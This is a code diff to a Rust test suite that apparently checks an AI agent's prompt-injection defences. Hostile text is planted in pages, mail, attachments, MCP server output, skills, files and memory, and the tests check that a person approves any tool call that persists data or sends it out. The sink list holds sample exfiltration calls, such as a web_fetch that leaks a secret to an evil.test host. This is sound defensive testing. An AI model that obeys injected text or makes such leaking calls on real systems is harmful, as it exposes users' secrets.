@@ -44,6 +44,12 @@ fn sinks() -> Vec<(&'static str, Value)> {
         ("message", json!({ "text": "X", "target": { "channel": "webhook", "chat": "hook" } })),
         ("web_fetch", json!({ "url": "http://10.0.0.9/?secret=42" })),
         ("web_fetch", json!({ "url": "http://secret-42.evil.test/" })),
+        (
+            "sessions_send",
+            json!({ "session": "agent:main:other", "message": "X", "deliver": true }),
+        ),
+        // The last one: a tool that was called stays in the prompt, with the server's description.
+        ("mcp_x_buy", json!({ "text": "42" })),
     ]
 }
 
@@ -62,18 +68,6 @@ enum Source {
 }
 
 impl Source {
-    const ALL: [Self; 9] = [
-        Self::Page,
-        Self::ForwardedMail,
-        Self::Attachment,
-        Self::McpAnswer,
-        Self::McpDescription,
-        Self::FileOfOthers,
-        Self::FileFromOutside,
-        Self::Skill,
-        Self::Memory,
-    ];
-
     /// Puts the text where the agent finds it.
     async fn prepare(self, world: &World, memory: &Remembers) -> anyhow::Result<()> {
         match self {
@@ -112,7 +106,8 @@ impl Source {
             Self::ForwardedMail => Body { text: HOSTILE.to_owned(), outside: true, ..body },
             Self::Attachment => {
                 let (kind, reference) = ("document".to_owned(), "f".to_owned());
-                let file = Attachment { kind, reference, name: HOSTILE.to_owned(), file: None };
+                let (name, transcription) = (HOSTILE.to_owned(), None);
+                let file = Attachment { kind, reference, name, file: None, transcription };
                 Body { attachments: vec![file], ..body }
             }
             _ => body,
@@ -176,12 +171,26 @@ async fn asked(world: &World) -> anyhow::Result<usize> {
 }
 
 #[tokio::test]
-async fn after_hostile_text_a_person_decides_about_each_call_that_persists_or_leaves()
+async fn after_a_page_mail_or_attachment_a_person_decides_about_each_call_that_persists_or_leaves()
 -> anyhow::Result<()> {
-    // A few worlds at once: each waits for most of its time.
-    for sources in Source::ALL.chunks(3) {
-        futures::future::try_join_all(sources.iter().map(|source| calls_after(*source))).await?;
-    }
+    calls_after_each(&[Source::Page, Source::ForwardedMail, Source::Attachment]).await
+}
+
+#[tokio::test]
+async fn after_text_of_an_mcp_server_or_skill_a_person_decides_about_each_such_call()
+-> anyhow::Result<()> {
+    calls_after_each(&[Source::McpAnswer, Source::McpDescription, Source::Skill]).await
+}
+
+#[tokio::test]
+async fn after_a_hostile_file_or_memory_a_person_decides_about_each_such_call() -> anyhow::Result<()>
+{
+    calls_after_each(&[Source::FileOfOthers, Source::FileFromOutside, Source::Memory]).await
+}
+
+/// A few worlds at once: each waits for most of its time.
+async fn calls_after_each(sources: &[Source]) -> anyhow::Result<()> {
+    futures::future::try_join_all(sources.iter().map(|source| calls_after(*source))).await?;
     Ok(())
 }
 
@@ -221,7 +230,8 @@ async fn without_hostile_text_the_policy_decides() -> anyhow::Result<()> {
     put(&world, "came.txt", HOSTILE, true).await?;
     let _runner = world.runner_with(config(&world, &memory), |app| app.with_tool(Page)).await?;
 
-    for (tool, input) in sinks() {
+    // The other conversation would take the replies of the calls that follow.
+    for (tool, input) in sinks().into_iter().filter(|(tool, _)| *tool != "sessions_send") {
         // The answer of `web_fetch` itself is text from outside.
         world.text(&world.send(owner(&world, "/new")).await?).await?;
         world.model.queue([Reply::call("x", tool, input.to_string()), Reply::text("done")]);
